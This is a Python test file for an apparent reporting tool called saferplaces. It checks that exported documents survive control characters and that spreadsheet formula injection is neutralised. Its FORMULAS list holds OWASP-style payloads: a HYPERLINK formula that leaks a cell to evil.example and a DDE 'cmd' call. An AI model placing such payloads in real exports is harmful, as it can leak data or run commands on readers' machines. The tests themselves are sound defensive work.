"""Issue 18 §5 and §6, as an attacker and a careless user would try them:

* control characters (a vertical tab pasted from Word, a ``\\x01`` in an agency's free
  text) never break a document, in any format, and never reach its XML;
* text that a spreadsheet would run as a formula (``= + - @``, tab, carriage return) is
  never a live formula in a workbook, and is neutralised in every CSV saferplaces
  writes; numbers stay numbers.

Each test drives a real path: the shared renderer, ``saferplaces assess`` on an agency
extract, the CLI's CSV, the web's agenda pack, minutes and action plan."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from django.urls import reverse
from pypdf import PdfReader

from saferplaces.document.model import (
    Callout,
    Column,
    Document,
    Narrative,
    Paragraph,
    Run,
    Section,
)
from saferplaces.document.tables import table
from saferplaces.render.write import FORMATS, render_bytes, render_document
from saferplaces.sources.agency.catalogue import describe_source
from saferplaces.warehouse import Warehouse

# Characters XML 1.0 cannot hold, as they arrive from Word, old systems and exports.
CONTROL = "Line one\x0bline two\x01 and\x0c a page\x00\x1f\ufffe"
# What a spreadsheet would run, as OWASP lists them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _document(text: str, cells: list[str]) -> Document:
    """A small document with ``text`` everywhere a builder puts words, and ``cells`` in a
    table beside a number."""
    rows = [{"what": c, "n": -12 + k} for k, c in enumerate(cells)]
    t = table(
        "t1",
        f"Caption {text}",
        [Column("what", f"What {text}", row_header=True), Column("n", "Count", "int")],
        rows,
        source=f"Source {text}",
        notes=[f"Note {text}"],
    )
    doc = Document(
        title=f"Title {text}",
        subtitle=f"Subtitle {text}",
        area=f"Area {text}",
        sections=[
            Section(
                "s1",
                f"Section {text}",
                [
                    Narrative([Paragraph([Run(f"Paragraph {text}", bold=True)])]),
                    Callout(f"Callout {text}", Narrative([Paragraph([Run(text)])])),
                    t,
                ],
            )
        ],
        edition_label=f"Edition {text}",
    )
    doc.number()
    return doc


def _docx_text(content: bytes) -> str:
    d = docx.Document(io.BytesIO(content))
    parts = [p.text for p in d.paragraphs]
    for t in d.tables:
        for row in t.rows:
            parts += [c.text for c in row.cells]
    return "\n".join(parts)


def _formulas_in_workbook(content: bytes) -> list[str]:
    """Every formula (``<f>``) in a workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [
            m
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
        ]


# ----------------------------------------------------------------- the shared renderer


def test_control_characters_never_break_a_document_in_any_format():
    for fmt in FORMATS:
        content = render_bytes(_document(CONTROL, [CONTROL]), fmt)
        assert content, fmt
        if fmt == "docx":
            text = _docx_text(content)
            assert "Paragraph Line one\nline two and\n a page" in text
            assert not XML_ILLEGAL.search(text)
        elif fmt == "xlsx":
            wb = openpyxl.load_workbook(io.BytesIO(content))
            values = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value]
            assert any("Line one\nline two and" in str(v) for v in values)
            assert not any(XML_ILLEGAL.search(str(v)) for v in values)
        elif fmt == "pdf":
            reader = PdfReader(io.BytesIO(content))
            assert "Line one" in reader.pages[0].extract_text()
            assert reader.metadata.title.startswith("Title Line one")
        else:
            html = content.decode("utf-8")
            assert "Line one\nline two" in html and not XML_ILLEGAL.search(html)


def test_no_workbook_cell_is_a_live_formula_and_numbers_stay_numbers():
    content = render_bytes(_document("plain", FORMULAS), "xlsx")
    assert _formulas_in_workbook(content) == []
    ws = openpyxl.load_workbook(io.BytesIO(content))["Table 1"]
    rows = [r for r in ws.iter_rows(min_row=5, max_row=4 + len(FORMULAS))]
    # The text is kept exactly as the document shows it, held as text, marked so that
    # editing the cell in Excel keeps it text.
    assert [r[0].value for r in rows] == [f.replace("\r", "\n") for f in FORMULAS]
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in rows if r[0].value[0] in "=+-@")
    assert [r[1].value for r in rows] == [-12 + k for k in range(len(FORMULAS))]
    assert all(r[1].data_type == "n" for r in rows)


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path):
    render_document(_document("plain", FORMULAS), tmp_path, ("xlsx",))
    with (tmp_path / "csv" / "table-01-t1.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [r[0] for r in rows] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert [r[1] for r in rows] == [str(-12 + k) for k in range(len(FORMULAS))]


# ------------------------------------------------------ an agency extract, through assess

SPEC = """
title: "Assessment {{ period.short }}"
chapters:
  - id: fires
    kind: topic
    title: Fires by parish
    sources: [fire]
    parts: []
    summary: false
    issues:
      - crosstab: {source: fire, rows: parish, columns: year, area: all, period: all}
"""


@pytest.fixture(scope="module")
def hostile_fires(loaded_path, tmp_path_factory) -> Path:
    """The bundled warehouse with a fire extract whose free-text parish holds control
    characters and formulas."""
    from saferplaces.sources.agency import ingest_agency

    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "warehouse.duckdb"
    shutil.copy(loaded_path, path)
    d = describe_source("fire")
    parish = d["header"].index("parish")
    rows = []
    # A NUL makes the loader refuse the whole file as binary: every other control
    # character reaches the warehouse as the agency sent it.
    for k, value in enumerate([*FORMULAS[:4], CONTROL.replace("\x00", ""), "Cambourne"]):
        row = list(d["example"][k % len(d["example"])])
        row[0] = f"F25-{k:06d}"
        row[parish] = value
        rows.append(row)
    extract = folder / "fire"
    extract.mkdir()
    with (extract / "fires.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(d["header"])
        w.writerows(rows)
    with Warehouse.open(path) as wh:
        ingest_agency(wh, [extract], source="fire")
    return path


def test_assess_writes_every_format_from_hostile_agency_text(hostile_fires, tmp_path, cli):
    spec = tmp_path / "spec.yaml"
    spec.write_text(SPEC)
    out = tmp_path / "out"
    r = cli(
        "assess",
        "--area",
        "South Cambridgeshire",
        "--period",
        "2025",
        "--spec",
        spec,
        "--out",
        out,
        "--warehouse",
        hostile_fires,
    )
    assert r.code == 0, r.err
    content = (out / "assessment.xlsx").read_bytes()
    assert _formulas_in_workbook(content) == []
    values = {
        c.value
        for ws in openpyxl.load_workbook(io.BytesIO(content))
        for row in ws.iter_rows()
        for c in row
    }
    assert FORMULAS[0] in values  # kept as text
    assert not any(XML_ILLEGAL.search(str(v)) for v in values if v)
    text = _docx_text((out / "assessment.docx").read_bytes())
    assert FORMULAS[0] in text and "Line one\nline two and" in text
    csv_text = "\n".join(f.read_text(encoding="utf-8") for f in (out / "csv").glob("*.csv"))
    for f in FORMULAS[:4]:
        assert f not in [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    assert "'" + FORMULAS[0] in [c for row in csv.reader(io.StringIO(csv_text)) for c in row]


def test_cli_csv_neutralises_formulas_and_keeps_numbers(hostile_fires, cli):
    r = cli(
        "table",
        "crosstab",
        "--source",
        "fire",
        "--rows",
        "parish",
        "--columns",
        "year",
        "--format",
        "csv",
        "--warehouse",
        hostile_fires,
    )
    assert r.code == 0, r.err
    rows = list(csv.DictReader(io.StringIO(r.out)))
    labels = [row["label"] for row in rows]
    for f in FORMULAS[:4]:
        assert f not in labels and "'" + f in labels
    assert "Line one\nline two and\n a page" in labels  # cleaned, not dropped
    total = next(row for row in rows if row["label"] == "Total")
    assert int(total["total"]) >= len(FORMULAS[:4]) + 2


# ---------------------------------------------------------------------------- the web app


@pytest.mark.django_db
def test_a_vertical_tab_in_a_public_question_leaves_the_agenda_pack_whole(clients, demo, meetings):
    from saferplaces.web.meetings.models import PublicQuestion

    m3 = meetings[2]
    q = PublicQuestion(
        meeting=m3,
        asked_by="A resident\x01",
        question="Line one\x0bline two: what about the bus shelter?",
    )
    q.save_by(None)
    for fmt in FORMATS:
        resp = clients["anonymous"].get(
            reverse("meetings:agenda_pack", args=[demo.slug, m3.pk, fmt])
        )
        assert resp.status_code == 200, fmt
    resp = clients["anonymous"].get(
        reverse("meetings:agenda_pack", args=[demo.slug, m3.pk, "docx"])
    )
    text = _docx_text(resp.content)
    assert "Line one\nline two: what about the bus shelter?" in text
    assert "A resident" in text and "\x01" not in text


@pytest.mark.django_db
def test_the_action_plan_workbook_holds_no_live_formula(clients, demo):
    from saferplaces.web.actions.models import Action, Priority

    priority = Priority.objects.filter(partnership=demo).first()
    action = Action.objects.filter(partnership=demo, priority=priority).first()
    action.text = FORMULAS[0] + "\x0b" + "second line"
    action.save_by(None)
    year = priority.plan_year.replace("/", "-")
    resp = clients["board"].get(reverse("actions:print", args=[demo.slug, year, "xlsx"]))
    assert resp.status_code == 200
    assert _formulas_in_workbook(resp.content) == []
    values = [
        c.value
        for ws in openpyxl.load_workbook(io.BytesIO(resp.content))
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert any(v.startswith(FORMULAS[0] + "\nsecond line") for v in values)
    docx_resp = clients["board"].get(reverse("actions:print", args=[demo.slug, year, "docx"]))
    assert FORMULAS[0] + "\nsecond line" in _docx_text(docx_resp.content)


def test_text_with_nothing_to_clean_comes_back_as_it_was():
    # A str subclass carrying structure (a library Note, worded later per audience) keeps
    # it when there is nothing to clean; cleaned text is plain text.
    from saferplaces.document.safe_text import clean

    class Tagged(str):
        pass

    plain = Tagged("make it first")
    assert clean(plain) is plain
    cleaned = clean(Tagged("line\x0bbreak"))
    assert cleaned == "line\nbreak" and type(cleaned) is str
